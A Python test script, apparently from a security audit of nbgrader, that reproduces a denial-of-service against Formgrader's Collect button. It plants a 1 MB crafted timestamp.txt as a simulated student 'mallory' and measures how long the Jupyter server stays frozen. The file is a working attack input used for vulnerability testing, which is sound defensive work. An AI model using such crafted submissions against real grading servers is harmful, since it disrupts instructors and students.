"""a07: a06 through Formgrader's Collect button (POST /formgrader/api/assignment/<a>/collect, which runs SafeCollect
with update=True inside the TA's Jupyter server, as `make lab` starts it). mallory's inbound folder holds an honest
notebook and a 1 MB timestamp.txt of '1.'; the TA presses Collect, a late hand-in of zoe39u's arrives, the TA presses
Collect again. Meanwhile a client asks the server for /api/status every second: how long is the server frozen?"""
from lib import *
import threading, urllib.request
A = "ps1_memory"; SIZE = int(os.environ.get("SIZE", "1000000")); PORT = 18947
add_accounts()
d = make_course("a07")
X, inbound = make_exchange("a07")
cfg = "/tmp/attack39-user-a07-jcfg"; os.makedirs(cfg, exist_ok=True)
open(f"{cfg}/nbgrader_config.py", "w").write(f"c = get_config()\nc.Exchange.root = {X!r}\n")
home = "/tmp/attack39-user-a07-home"; os.makedirs(home, exist_ok=True)
for p in (d, cfg, home): chown(p)
os.chmod(d, 0o700)
lab = None
try:
    honest_inbound(inbound, A)
    tmp = "/tmp/attack39-user-a07-m.ipynb"; nbformat.write(honest(A), tmp); os.chmod(tmp, 0o644)
    open("/tmp/attack39-user-a07-ts", "w").write("1." * (SIZE // 2)); os.chmod("/tmp/attack39-user-a07-ts", 0o644)
    as_student(2392, f"""
import os, shutil
p = '{inbound}/mallory39u+{A}+2026-11-29 11:00:00.000000 UTC+r'; os.mkdir(p); os.chmod(p, 0o755)
shutil.copy('{tmp}', p + '/{A}.ipynb'); shutil.copy('/tmp/attack39-user-a07-ts', p + '/timestamp.txt')
""")
    env = dict(ENV, DISTCOURSE_JUDGE="kernel", PYTHONSAFEPATH="1", PATH=CLONE + "/.venv/bin:" + ENV["PATH"], HOME=home, JUPYTER_CONFIG_DIR=cfg)
    lab = subprocess.Popen(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/jupyter", "lab",
                            "--notebook-dir=.", "--no-browser", f"--port={PORT}", "--ServerApp.token=tok39"],
                           cwd=d, env=env, stdout=open("/tmp/attack39-user-a07-lab.log", "w"), stderr=subprocess.STDOUT)
    for _ in range(90):
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{PORT}/api/status?token=tok39", timeout=2); break
        except Exception:
            time.sleep(1)
    def press():
        req = urllib.request.Request(f"http://127.0.0.1:{PORT}/formgrader/api/assignment/{A}/collect", data=b"{}", method="POST",
                                     headers={"Authorization": "token tok39", "Content-Type": "application/json"})
        t = time.time(); out = urllib.request.urlopen(req, timeout=3000).read().decode()
        return time.time() - t, out
    t, out = press(); print(f"Collect button, first press: {t:.1f}s", out[:300].replace("\\n", " "))
    as_student(2393, f"""
import os, shutil
p = '{inbound}/zoe39u+{A}+2026-11-29 12:00:00.000000 UTC+late'; os.mkdir(p); os.chmod(p, 0o755)
shutil.copy('{tmp}', p + '/{A}.ipynb')
""")
    waits, done = [], []
    def poll():
        while not done:
            t = time.time()
            try: urllib.request.urlopen(f"http://127.0.0.1:{PORT}/api/status?token=tok39", timeout=600).read()
            except Exception as e: print("poll error", e)
            waits.append(time.time() - t); time.sleep(1)
    th = threading.Thread(target=poll); th.start()
    t, out = press(); done.append(1); th.join()
    print(f"Collect button, second press: {t:.1f}s", out[:300].replace("\\n", " "))
    print(f"/api/status during it: {len(waits)} answers, longest wait {max(waits):.1f}s, median {sorted(waits)[len(waits)//2]:.2f}s")
    os.system(f"ls {d}/submitted/")
finally:
    if lab: lab.terminate(); lab.wait(20)
    shutil.rmtree(d, ignore_errors=True); shutil.rmtree(X, ignore_errors=True)
    for p in (cfg, home): shutil.rmtree(p, ignore_errors=True)
    for f in ("/tmp/attack39-user-a07-m.ipynb", "/tmp/attack39-user-a07-ts", "/tmp/attack39-user-a07-lab.log"):
        if os.path.exists(f): os.unlink(f)
    del_accounts()
